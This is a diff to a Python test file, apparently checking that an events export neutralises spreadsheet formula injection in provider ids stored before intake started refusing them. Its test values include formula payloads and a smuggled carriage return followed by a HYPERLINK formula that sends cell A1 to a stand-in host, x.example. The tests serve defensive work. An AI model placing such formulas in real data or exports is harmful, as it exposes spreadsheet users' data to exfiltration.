@@ -41,7 +41,8 @@ SENT: dict[str, str] = {
 STORED: dict[str, str] = {"\t": "\t=1+1", "\r": "\r=1+1"}
 """Values only the store can hold (intake strips them), by their leading character."""
 INSIDE = 'noord\r=HYPERLINK("http://x.example/?"&A1,"klik")'
-"""A carriage return inside a value: a spreadsheet starts a row there unless it is quoted."""
+"""A carriage return inside a value: a spreadsheet starts a row there unless it is quoted.
+Intake refuses it in a provider id now (``provider_id_format``); a store from before holds it."""
 
 
 @pytest.fixture
@@ -83,7 +84,7 @@ def test_the_events_export_neutralises_provider_ids_sent_upstream(
     env: dict[str, str], tmp_path: Path, referral_data: dict[str, Any]
 ) -> None:
     files = []
-    for n, provider in enumerate((*SENT.values(), INSIDE)):
+    for n, provider in enumerate(SENT.values()):
         data = copy.deepcopy(referral_data)
         data["event_id"] = str(uuid.uuid4())
         data["provider"]["id"] = provider
@@ -96,7 +97,7 @@ def test_the_events_export_neutralises_provider_ids_sent_upstream(
 
     async def store_more() -> None:
         async with await Store.open(env["INTEGRATOR_DATABASE_URL"]) as store:
-            for provider in STORED.values():
+            for provider in (*STORED.values(), INSIDE):
                 assert await store.accept_event(make_event(provider_id=provider), [])
 
     asyncio.run(store_more())
